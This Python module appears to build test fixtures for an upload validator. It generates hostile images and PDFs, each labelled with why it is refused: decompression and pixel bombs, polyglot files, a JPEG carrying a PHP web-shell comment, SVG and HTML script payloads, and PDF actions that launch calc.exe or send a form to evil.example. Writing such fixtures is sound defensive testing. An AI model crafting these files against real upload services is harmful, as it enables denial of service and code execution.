"""Files that nobody should let in, made on the spot: {name: (kind asked for, maker, why it is refused)}."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

Maker = Callable[[], bytes]
JPEG_HEAD, PNG_HEAD = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", b"\x89PNG\r\n\x1a\n"


def image(form: str = "JPEG", size: tuple[int, int] = (320, 240), **options: object) -> bytes:
    file = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(file, form, **options)
    return file.getvalue()


def blank(form: str, size: tuple[int, int]) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", size, "white").save(file, form)
    return file.getvalue()


def chunk(kind: bytes, data: bytes, crc: int | None = None) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) if crc is None else crc)


def png(width: int, height: int, data: bytes, *extra: bytes, depth: int = 8, colour: int = 0) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return PNG_HEAD + chunk(b"IHDR", header) + b"".join(extra) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def jpeg_claiming(width: int, height: int, *, progressive: bool = False) -> bytes:
    """A small picture whose header says another size."""
    content = bytearray(image(progressive=progressive))
    at = content.index(b"\xff\xc2" if progressive else b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def webp_claiming(width: int, height: int) -> bytes:
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\x10\0\0\0" + size + image("WEBP")[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def archive() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        made.writestr("run.js", "alert(1)")
    return file.getvalue()


def pdf(*objects: bytes, pages: int = 1, catalog: bytes = b"", page: bytes = b"", trailer: bytes = b"") -> bytes:
    """A whole PDF: catalog 1, page tree 2, then `pages` pages, then `objects` numbered on from there."""
    kids = b" ".join(b"%d 0 R" % (3 + number) for number in range(pages))
    every = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids),
        *[b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]" + page + b">>"] * pages,
        *objects,
    ]
    content, places = b"%PDF-1.7\n", []
    for number, body in enumerate(every, 1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size, start = len(every) + 1, len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R%s>>\n" % (size, table, size, trailer)
    return content + b"startxref\n%d\n%%%%EOF\n" % start


def stream(data: bytes, entries: bytes = b"") -> bytes:
    packed = zlib.compress(data)
    return b"<<%s/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (entries, len(packed), packed)


def objects(body: bytes) -> bytes:
    return stream(b"9 0 " + body, b"/Type/ObjStm/N 1/First 4")


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
ENCRYPT = b"/Encrypt 4 0 R/ID[<00112233445566778899aabbccddeeff><00112233445566778899aabbccddeeff>]"
STANDARD = b"<</Filter/Standard/V 2/R 3/Length 128/P -44/O<%s>/U<%s>>>" % (b"aa" * 32, b"bb" * 32)
BOMB = bytes(30_000_000)

PICTURES: dict[str, tuple[Maker, str]] = {
    "empty": (lambda: b"", "empty"),
    "text": (lambda: b"hello", "wrong_picture"),
    "gif": (lambda: image("GIF"), "wrong_picture"),
    "bmp": (lambda: image("BMP"), "wrong_picture"),
    "tiff": (lambda: image("TIFF"), "wrong_picture"),
    "ico": (lambda: image("ICO", (32, 32)), "wrong_picture"),
    "svg": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "wrong_picture"),
    "html": (lambda: b"<!doctype html><script>alert(1)</script>", "wrong_picture"),
    "program": (lambda: b"MZ" + bytes(5000), "wrong_picture"),
    "elf": (lambda: b"\x7fELF" + bytes(5000), "wrong_picture"),
    "zip": (archive, "wrong_picture"),
    "heic": (lambda: b"\0\0\0\x18ftypheic" + bytes(500), "wrong_picture"),
    "pdf as picture": (pdf, "wrong_picture"),
    "postscript": (lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n", "wrong_picture"),
    "riff that is sound": (lambda: b"RIFF" + struct.pack("<I", 500) + b"WAVE" + bytes(500), "wrong_picture"),
    "zeros before a jpeg": (lambda: bytes(16) + image(), "wrong_picture"),
    "13 MB": (lambda: JPEG_HEAD + bytes(13 * 1024 * 1024), "too_large_picture"),
    "jpeg head alone": (lambda: JPEG_HEAD, "damaged"),
    "jpeg of noise": (lambda: JPEG_HEAD + bytes(range(256)) * 40, "damaged"),
    "jpeg cut in half": (lambda: image()[: len(image()) // 2], "damaged"),
    "jpeg of 60000 x 60000": (lambda: jpeg_claiming(60_000, 60_000), "too_many_pixels"),
    "jpeg larger than its data": (lambda: jpeg_claiming(10_000, 10_000), "damaged"),
    "progressive jpeg of 9000 x 9000": (lambda: jpeg_claiming(9000, 9000, progressive=True), "too_many_pixels"),
    "jpeg of no width": (lambda: jpeg_claiming(0, 240), "damaged"),
    "png head alone": (lambda: PNG_HEAD, "damaged"),
    "png cut in half": (lambda: image("PNG")[:40_000], "damaged"),
    "png bomb of 30000 x 30000": (lambda: png(30_000, 30_000, bytes(1000), depth=1), "too_many_pixels"),
    "png bomb of 2^31 x 1": (lambda: png(2**31 - 1, 1, bytes(1000)), "too_many_pixels"),
    "png of 4400 x 4400 without its data": (lambda: png(4400, 4400, bytes(1000), colour=6), "damaged"),
    "png of no height": (lambda: png(100, 0, b""), "damaged"),
    "png of a wrong checksum": (lambda: PNG_HEAD + chunk(b"IHDR", bytes(13), 1) + image("PNG")[33:], "damaged"),
    "png with a bomb of text": (lambda: png(8, 8, bytes(72), chunk(b"zTXt", b"k\0\0" + zlib.compress(BOMB))), "damaged"),
    "png with many bombs of text": (
        lambda: png(8, 8, bytes(72), *[chunk(b"zTXt", b"k\0\0" + zlib.compress(BOMB[:1_000_000]))] * 90),
        "damaged",
    ),
    "webp head alone": (lambda: b"RIFF" + struct.pack("<I", 4) + b"WEBP", "damaged"),
    "webp cut in half": (lambda: image("WEBP")[:2000], "damaged"),
    "webp of 4200 x 3000": (lambda: blank("WEBP", (4200, 3000)), "too_many_pixels"),
    "webp that says 16000 x 16000": (lambda: webp_claiming(16_000, 16_000), "damaged"),
    "webp of another size than its frame": (lambda: webp_claiming(3000, 3000), "damaged"),
    "jpeg and zip": (lambda: image() + archive(), "two_in_one"),
    "png and zip": (lambda: image("PNG") + archive(), "two_in_one"),
    "jpeg and pdf": (lambda: image() + pdf(), "two_in_one"),
    "jpeg with php in its comment": (lambda: image(comment=b"<?php system($_GET[0]); ?>"), "two_in_one"),
    "png with a page in its text": (lambda: png(8, 8, bytes(72), chunk(b"tEXt", b"c\0<script>alert(1)</script>")), "two_in_one"),
    "jpeg and rar": (lambda: image() + b"Rar!\x1a\x07\x01\x00" + bytes(50), "two_in_one"),
}
DOCUMENTS: dict[str, tuple[Maker, str]] = {
    "empty": (lambda: b"", "empty"),
    "text": (lambda: b"hello", "wrong_pdf"),
    "picture as pdf": (image, "wrong_pdf"),
    "word file": (archive, "wrong_pdf"),
    "pdf after other bytes": (lambda: b"GIF89a" + pdf(), "wrong_pdf"),
    "11 MB": (lambda: b"%PDF-1.7\n" + bytes(11 * 1024 * 1024), "too_large_pdf"),
    "head alone": (lambda: b"%PDF-1.7\n", "damaged"),
    "cut in half": (lambda: pdf(stream(bytes(range(256)) * 50))[:400], "damaged"),
    "wrong table": (lambda: pdf().replace(b"0000000009 00000 n", b"0000000999 00000 n"), "damaged"),
    "no page": (lambda: pdf(pages=0), "damaged"),
    "noise with a tail": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"startxref\n9\n%%EOF", "damaged"),
    "pages that contain themselves": (lambda: pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"), "damaged"),
    "51 pages": (lambda: pdf(pages=51), "too_many_pages"),
    "5000 pages": (lambda: pdf(pages=5000), "too_many_pages"),
    "password": (lambda: pdf(STANDARD, trailer=ENCRYPT), "encrypted"),
    "password under another spelling": (lambda: pdf(STANDARD, trailer=ENCRYPT.replace(b"Encrypt", b"#45ncrypt")), "encrypted"),
    "script on opening": (lambda: pdf(catalog=b"/OpenAction" + SCRIPT), "active"),
    "script by name": (lambda: pdf(SCRIPT, catalog=b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>"), "active"),
    "script under another spelling": (lambda: pdf(catalog=b"/OpenAction<</S/J#61vaScript/JS(1)>>"), "active"),
    "script on a page": (lambda: pdf(page=b"/AA<</O" + SCRIPT + b">>"), "active"),
    "script in packed objects": (lambda: pdf(objects(SCRIPT)), "active"),
    "script in objects packed twice": (
        lambda: pdf(stream(zlib.compress(SCRIPT), b"/Type/ObjStm/N 1/First 4/DecodeParms<</Predictor 12>>")),
        "unreadable",
    ),
    "launch": (lambda: pdf(catalog=b"/OpenAction<</S/Launch/F(calc.exe)>>"), "active"),
    "attachment": (lambda: pdf(stream(b"x", b"/Type/EmbeddedFile"), catalog=b"/Names<</EmbeddedFiles<</Names[]>>>>"), "active"),
    "form that is sent": (lambda: pdf(page=b"/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>"), "active"),
    "another document": (lambda: pdf(catalog=b"/OpenAction<</S/GoToR/F(//evil.example/share)>>"), "active"),
    "film": (lambda: pdf(page=b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 1 1]>>]"), "active"),
    "bomb of packed objects": (lambda: pdf(stream(BOMB, b"/Type/ObjStm/N 1/First 4")), "unreadable"),
    "pdf and zip": (lambda: pdf() + archive(), "two_in_one"),
    "pdf and page": (lambda: pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<html><script>alert(1)</script>\n"), "two_in_one"),
    "bytes after the end": (lambda: pdf() + b"MZ" + bytes(5000), "two_in_one"),
}
CORPUS = {
    **{f"picture, {name}": ("PICTURE", make, why) for name, (make, why) in PICTURES.items()},
    **{f"document, {name}": ("PDF", make, why) for name, (make, why) in DOCUMENTS.items()},
}
